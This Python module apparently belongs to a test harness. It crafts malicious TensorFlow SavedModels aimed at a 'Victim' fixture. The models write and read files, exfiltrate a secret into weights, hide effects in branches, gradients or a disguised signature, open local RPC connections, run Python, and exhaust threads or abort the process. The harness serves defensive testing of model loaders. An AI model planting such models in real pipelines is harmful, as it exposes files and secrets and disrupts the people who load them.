"""Models whose signature reaches outside of the computation."""

from __future__ import annotations

import shutil
import sys
from pathlib import Path
from typing import Any

from .saving import (
    add_function,
    add_write,
    as_weights,
    call_function,
    edit,
    find_relu,
    replace_relu,
    save,
    save_beside,
)
from .table import Victim, attack


@attack("effect", "writes a file beside the computation")
def write_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_file"))
    save_beside(directory, lambda _: tf.raw_ops.WriteFile(filename=path, contents="owned"))


@attack("effect", "appends to a file by printing")
def print_to_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = f"file://{victim.marker('print_to_file')}"
    save_beside(directory, lambda x: tf.print("owned", x, output_stream=path))


@attack("effect", "prints a workflow command")
def print_to_terminal(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    save_beside(directory, lambda _: tf.print("\n::error::owned", output_stream=sys.stderr))


@attack("effect", "saves a checkpoint")
def save_checkpoint(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    prefix = str(victim.marker("save_checkpoint"))
    save_beside(
        directory,
        lambda x: tf.raw_ops.SaveV2(
            prefix=prefix, tensor_names=["x"], shape_and_slices=[""], tensors=[x]
        ),
    )


@attack("effect", "returns the content of a file")
def read_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def run(x: Any) -> Any:
        with tf.name_scope("evil"):
            content = as_weights(tf.io.read_file(str(victim.secret)))
        return x + content[:4]

    save(directory, run)


# TensorFlow prunes such a node where it optimises the function that holds it, and runs it elsewhere.
@attack("effect", "writes a file by a node to which no edge leads")
def write_unconnected(directory: Path, victim: Victim) -> None:
    def change(meta_graph: Any) -> None:
        add_write(find_relu(meta_graph)[0], str(victim.marker("write_unconnected")))

    edit(directory, change)


@attack("effect", "writes a file in a branch of a condition")
def write_in_branch(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_in_branch"))

    def attack(x: Any) -> Any:
        with tf.name_scope("evil"):
            written = tf.raw_ops.WriteFile(filename=path, contents="owned")
        with tf.control_dependencies([written]):
            return tf.identity(x)

    save(directory, lambda x: tf.cond(tf.size(x) < 10**9, lambda: attack(x), lambda: -x))


@attack("effect", "writes a file in the body of a loop that nothing needs")
def write_in_loop(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    path = str(victim.marker("write_in_loop"))

    def body(turn: Any) -> Any:
        with tf.control_dependencies([tf.raw_ops.WriteFile(filename=path, contents="owned")]):
            return turn + 1

    save_beside(directory, lambda _: tf.while_loop(lambda turn: turn < 2, body, [0])[0])


# TensorFlow's loader drops GradientDefs today, so nothing happens when this runs.
@attack("effect", "writes a file in the gradient that a function names")
def write_in_gradient(directory: Path, victim: Victim) -> None:
    from tensorflow.core.framework import types_pb2

    def change(meta_graph: Any) -> None:
        call_function(replace_relu(meta_graph, "PartitionedCall"), "evil_caller")
        caller = add_function(meta_graph, "evil_caller")
        last = caller.node_def.add(name="last", input=["x", "x"])
        call_function(last, "evil_function", "SymbolicGradient")
        last.attr["Tin"].list.type.append(types_pb2.DT_FLOAT)
        for name in ("evil_function", "evil_gradient"):
            function = add_function(meta_graph, name)
            identity = function.node_def.add(name="last", op="Identity", input=["x"])
            identity.attr["T"].type = types_pb2.DT_FLOAT
        function.signature.input_arg.add(name="dy", type=types_pb2.DT_FLOAT)
        identity.input.append("^evil_write")
        add_write(function, str(victim.marker("write_in_gradient")))
        meta_graph.graph_def.library.gradient.add(
            function_name="evil_function", gradient_func="evil_gradient"
        )

    edit(directory, change)


@attack("effect", "writes a file in the function of the objects, behind a harmless SignatureDef")
def write_behind_signature(directory: Path, victim: Victim) -> None:
    def change(meta_graph: Any) -> None:
        objects, library = meta_graph.object_graph_def, meta_graph.graph_def.library
        (signature,) = (
            node.bare_concrete_function
            for node in objects.nodes
            if node.bare_concrete_function.concrete_function_name
        )
        name = signature.concrete_function_name
        harmless = next(f for f in library.function if f.signature.name == name)
        evil = library.function.add()
        evil.CopyFrom(harmless)
        evil.signature.name = signature.concrete_function_name = "__evil_signature"
        objects.concrete_functions["__evil_signature"].CopyFrom(objects.concrete_functions[name])
        add_write(evil, str(victim.marker("write_behind_signature")))
        next(node for node in evil.node_def if node.op == "Identity").input.append("^evil_write")

    edit(directory, change)


@attack("effect", "dumps a constant while TensorFlow infers shapes of a function that is not used")
def dump_in_unused_function(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    url = f"file://{victim.marker('dump_in_unused_function')}"

    def unused() -> Any:
        size = tf.raw_ops.DebugIdentity(
            input=tf.constant([2, 2]), tensor_name="x:0", debug_urls=[url], name="evil"
        )
        return tf.fill(size, 1.0)

    module = tf.Module()
    module.weights = tf.Variable(tf.eye(4))
    module.unused = tf.function(unused, input_signature=[])
    run = tf.function(
        lambda x: {"y": x @ module.weights},
        input_signature=[tf.TensorSpec([None, 4], tf.float32, "x")],
    )
    victim_before = victim.marker("dump_in_unused_function")
    tf.saved_model.save(module, str(directory), signatures={"serving_default": run})
    shutil.rmtree(victim_before, ignore_errors=True)


@attack("effect", "dumps its input by an operation of the debugger that counts as stateless")
def debug_dump(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    url = f"file://{victim.marker('debug_dump')}"
    save(
        directory,
        lambda x: tf.raw_ops.DebugIdentity(
            input=x, tensor_name="x:0", debug_urls=[url], name="evil"
        ),
    )


@attack("effect", "maps a file into memory by an operation that counts as stateless")
def map_file(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    save(
        directory,
        lambda x: (
            x
            + tf.raw_ops.ImmutableConst(
                dtype=tf.float32, shape=[4], memory_region_name=str(victim.secret), name="evil"
            )
        ),
    )


@attack("effect", "creates a directory and a file of summaries")
def write_summary(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def effect(_: Any) -> Any:
        return tf.raw_ops.CreateSummaryFileWriter(
            writer=tf.raw_ops.SummaryWriter(),
            logdir=str(victim.marker("write_summary")),
            max_queue=1,
            flush_millis=1,
            filename_suffix="",
        )

    save_beside(directory, effect)


@attack("effect", "calls a server in the network")
def connect(directory: Path, victim: Victim) -> None:
    from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

    address = f"127.0.0.1:{victim.port}"
    save_beside(
        directory,
        lambda _: (
            gen_rpc_ops.rpc_client(
                server_address=address, timeout_in_ms=500, list_registered_methods=True
            ).method_specs
        ),
    )


@attack("effect", "serves in the network")
def listen(directory: Path, victim: Victim) -> None:
    from tensorflow.distribute.experimental.rpc.kernels import gen_rpc_ops

    address = f"localhost:{victim.port}"
    save_beside(
        directory,
        lambda _: gen_rpc_ops.rpc_server_start(
            server=gen_rpc_ops.rpc_server(server_address=address)
        ),
    )


@attack("effect", "runs Python")
def run_python(directory: Path, victim: Victim) -> None:
    import tensorflow as tf

    def write() -> int:
        victim.marker("run_python").write_text("owned")
        return 0

    save_beside(directory, lambda _: tf.py_function(write, [], tf.int32))


@attack("effect", "starts as many threads as it can")
def start_threads(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def effect(_: Any) -> Any:
        dataset = tf.data.Dataset.range(4)
        options = tf.data.Options()
        options.threading.private_threadpool_size = 50_000
        return dataset.with_options(options).reduce(tf.constant(0, tf.int64), lambda a, b: a + b)

    save_beside(directory, effect)


@attack("effect", "sleeps for a year")
def sleep(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    def effect(_: Any) -> Any:
        dataset = tf.data.experimental.from_variant(
            tf.raw_ops.SleepDataset(
                input_dataset=tf.data.Dataset.range(4)._variant_tensor,
                sleep_microseconds=tf.constant(365 * 24 * 3600 * 10**6, tf.int64),
                output_types=[tf.int64],
                output_shapes=[[]],
            ),
            tf.TensorSpec([], tf.int64),
        )
        return dataset.reduce(tf.constant(0, tf.int64), lambda a, b: a + b)

    save_beside(directory, effect)


@attack("effect", "ends the process")
def abort(directory: Path, _: Victim) -> None:
    import tensorflow as tf

    save_beside(directory, lambda _: tf.raw_ops.Abort(error_msg="owned"))


@attack("effect", "needs a kernel from a custom op library", runs=False)
def custom_op(directory: Path, _: Victim) -> None:
    def change(meta_graph: Any) -> None:
        find_relu(meta_graph)[1].op = "ExperimentEvil"

    edit(directory, change)
